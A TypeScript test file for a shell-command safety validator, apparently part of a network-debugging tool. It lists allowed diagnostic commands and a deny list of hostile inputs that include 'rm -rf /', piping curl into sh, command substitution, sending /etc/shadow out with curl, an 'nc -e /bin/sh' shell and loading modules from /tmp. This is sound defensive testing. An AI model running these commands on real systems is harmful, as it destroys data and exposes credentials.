import { describe, expect, it } from 'vitest'
import { safeLine } from './safe-line.ts'

const words = (line: string): readonly string[] | null => {
  const answer = safeLine(line)
  return answer.safe ? answer.words : null
}

describe('safeLine', () => {
  it.each([
    ['curl http://web', ['curl', 'http://web']],
    ['curl -s -m 3 http://192.168.10.11:30080', ['curl', '-s', '-m', '3', 'http://192.168.10.11:30080']],
    [
      `curl -so /dev/null -w '%{http_code}\\n' "http://web/a?b=c"`,
      ['curl', '-so', '/dev/null', '-w', '%{http_code}\\n', 'http://web/a?b=c'],
    ],
    ['ping -c 1 -W 1 -s 1372 web', ['ping', '-c', '1', '-W', '1', '-s', '1372', 'web']],
    [
      'dig +short @10.96.0.10 web.default.svc.cluster.local',
      ['dig', '+short', '@10.96.0.10', 'web.default.svc.cluster.local'],
    ],
    ['wget -qO- http://web', ['wget', '-qO-', 'http://web']],
    ['nc -zv -w 1 10.0.0.1 80', ['nc', '-zv', '-w', '1', '10.0.0.1', '80']],
    ['ip -d link show eth0', ['ip', '-d', 'link', 'show', 'eth0']],
    ['ip route add 10.9.0.0/24 via 10.0.0.1', ['ip', 'route', 'add', '10.9.0.0/24', 'via', '10.0.0.1']],
    ['iptables -t nat -L -n', ['iptables', '-t', 'nat', '-L', '-n']],
    [
      'iptables -A INPUT -m statistic --mode random -j DROP',
      ['iptables', '-A', 'INPUT', '-m', 'statistic', '--mode', 'random', '-j', 'DROP'],
    ],
    ['cat /etc/resolv.conf', ['cat', '/etc/resolv.conf']],
  ])('runs %s', (line, expected) => expect(words(line)).toEqual(expected))

  it.each([
    '',
    'rm -rf /',
    'iptables -M /tmp/x -L',
    'iptables -nM/tmp/x -L',
    'iptables --modprobe=/tmp/x -L',
    'iptables --modp /tmp/x -L',
    'curl http://web; rm -rf /',
    'curl http://web | sh',
    'curl http://web && reboot',
    'curl `reboot`',
    'curl $(reboot)',
    'curl "$(reboot)"',
    'curl http://web > /etc/passwd',
    'curl -o /etc/passwd http://web',
    'curl -so/etc/passwd http://web',
    'curl -O http://web/x',
    'curl -K /root/x',
    'curl -d @/etc/shadow http://web',
    'curl -d=@/etc/shadow http://web',
    'curl file:///etc/shadow',
    `curl -w '%output{/etc/passwd}' http://web`,
    'curl --output /etc/passwd http://web',
    'curl -T /etc/shadow http://web',
    'wget http://web',
    'wget -O /etc/passwd http://web',
    'wget -qO- -P /etc http://web',
    'nc -e /bin/sh 10.0.0.1 80',
    'nc -lc reboot -p 80',
    'nc -z 10.0.0.1 -c reboot',
    'dig -f /etc/shadow',
    'ip netns exec default.client reboot',
    'ip netns del node1',
    'ip -n node2 link del eth0',
    'ip -b /etc/shadow',
    'ip -batch /tmp/x',
    'ip vrf exec x reboot',
    'ip link set eth0 netns 1',
    'ip link set dev eth0 xdp obj evil.o',
    'bridge -b x fdb',
    'ss -D /etc/passwd',
    'iptables -M /tmp/evil -L',
    'iptables --modprobe=/tmp/evil -L',
    'cat /etc/shadow',
    'sh -c reboot',
    'ping -c 1 10.0.0.1\nreboot',
    `ping 'a\nb'`,
    'ping $HOME',
    'ping *',
    'ping "unfinished',
    'constructor',
    '__proto__',
  ])('leaves %j alone', (line) => expect(safeLine(line).safe).toBe(false))
})
